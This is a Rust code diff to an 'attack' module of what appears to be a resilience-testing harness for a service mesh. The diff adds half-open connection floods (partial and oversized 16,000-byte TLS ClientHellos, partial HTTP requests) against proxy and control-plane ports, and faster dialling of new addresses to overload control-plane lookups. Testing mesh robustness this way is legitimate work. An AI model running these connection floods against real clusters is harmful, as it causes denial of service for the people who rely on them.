@@ -8,12 +8,14 @@ use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio::time::timeout;
 
-use super::{Campaign, REST, at};
+use super::{CLOSED_PORT, Campaign, REST, at};
 
 /// Connections to each port of each Pod. An admin port has 128 places.
 const SOCKETS: u32 = 150;
 /// The first bytes of a TLS record that would be a ClientHello.
 const HALF_HELLO: &[u8] = &[0x16, 3, 1, 2, 0, 1];
+/// The first 16,000 bytes of a ClientHello that fills a whole record.
+const LARGE_HALF_HELLO: &[u8] = &large_half_hello();
 const HALF_REQUEST: &[u8] = b"PUT /log-level HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n";
 const HALF_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n";
 /// Nobody but loopback may do that.
@@ -22,6 +24,9 @@ const METRICS: &[u8] = b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r
 
 /// Between a connection that was closed and the next.
 const HOLD_REST: Duration = Duration::from_secs(6);
+/// Addresses that a member dials: so many at once, in each interval. It is 10,800 in a minute.
+const DIALLED_AT_ONCE: usize = 9;
+const DIAL_INTERVAL: Duration = Duration::from_millis(50);
 const PATIENCE: Duration = Duration::from_secs(1);
 
 pub(super) fn attack(campaign: &mut Campaign, proxies: &[IpAddr], controls: &[IpAddr]) {
@@ -30,7 +35,10 @@ pub(super) fn attack(campaign: &mut Campaign, proxies: &[IpAddr], controls: &[Ip
         ("proxy_admin_half", proxies, 4191, HALF_REQUEST),
         ("proxy_inbound_half", proxies, 4143, HALF_HELLO),
         ("proxy_tunnel_half", proxies, 15008, HALF_HELLO),
-        ("proxy_application_half", proxies, 50051, HALF_PREFACE),
+        ("proxy_inbound_large_half", proxies, 4143, LARGE_HALF_HELLO),
+        ("proxy_tunnel_large_half", proxies, 15008, LARGE_HALF_HELLO),
+        ("proxy_application_half", proxies, CLOSED_PORT, HALF_PREFACE),
+        ("proxy_application_large_half", proxies, CLOSED_PORT, LARGE_HALF_HELLO),
         ("control_xds_half", controls, 15010, HALF_HELLO),
         ("control_certificates_half", controls, 15012, HALF_HELLO),
         ("control_admin_half", controls, 15014, HALF_REQUEST),
@@ -42,6 +50,18 @@ pub(super) fn attack(campaign: &mut Campaign, proxies: &[IpAddr], controls: &[Ip
     ask_again_and_again(campaign, "log_level_refused", &at(proxies, 4191), LOG_OFF, b" 403 ");
     ask_again_and_again(campaign, "log_level_refused_by_control", &at(controls, 15014), LOG_OFF, b" 403 ");
     ask_again_and_again(campaign, "metrics_answered", &at(proxies, 4191), METRICS, b" 200 ");
+}
+
+const fn large_half_hello() -> [u8; 16_000] {
+    let mut bytes = [0; 16_000];
+    // A record of 16,383 bytes (RFC 8446 section 5.1), and in it a ClientHello of 16,379 (section 4).
+    let head = [0x16, 3, 1, 0x3f, 0xff, 1, 0, 0x3f, 0xfb, 3, 3];
+    let mut at = 0;
+    while at < head.len() {
+        bytes[at] = head[at];
+        at += 1;
+    }
+    bytes
 }
 
 /// Connections on each of which `said` is all that is said; one that is closed is followed by another.
@@ -97,22 +117,24 @@ async fn ask(address: SocketAddr, request: &[u8]) -> Vec<u8> {
     answer
 }
 
-/// Dials twenty addresses a second that this Pod never called before, each of which its proxy asks the control plane for.
+/// Dials addresses that this Pod never called before, each of which its proxy asks the control plane for.
 pub(super) fn dial_ever_new_addresses(campaign: &mut Campaign, ips: &[IpAddr]) {
     let dialled = campaign.count("new_addresses_dialled");
     let addresses: Vec<SocketAddr> =
         (20_000..60_000).flat_map(|port| ips.iter().map(move |ip| (*ip, port).into())).collect();
     campaign.spawn(async move {
-        let mut pace = tokio::time::interval(Duration::from_millis(50));
-        for address in addresses {
+        let mut pace = tokio::time::interval(DIAL_INTERVAL);
+        for addresses in addresses.chunks(DIALLED_AT_ONCE) {
             pace.tick().await;
-            dialled.fetch_add(1, Ordering::Relaxed);
-            // It goes when the proxy has found out that nothing listens there.
-            tokio::spawn(timeout(PATIENCE, async move {
-                let mut stream = TcpStream::connect(address).await?;
-                stream.write_all(b"\r\n").await?;
-                stream.read(&mut [0; 64]).await
-            }));
+            dialled.fetch_add(addresses.len() as u64, Ordering::Relaxed);
+            for address in addresses.iter().copied() {
+                // It goes when the proxy has found out that nothing listens there.
+                tokio::spawn(timeout(PATIENCE, async move {
+                    let mut stream = TcpStream::connect(address).await?;
+                    stream.write_all(b"\r\n").await?;
+                    stream.read(&mut [0; 64]).await
+                }));
+            }
         }
     });
 }
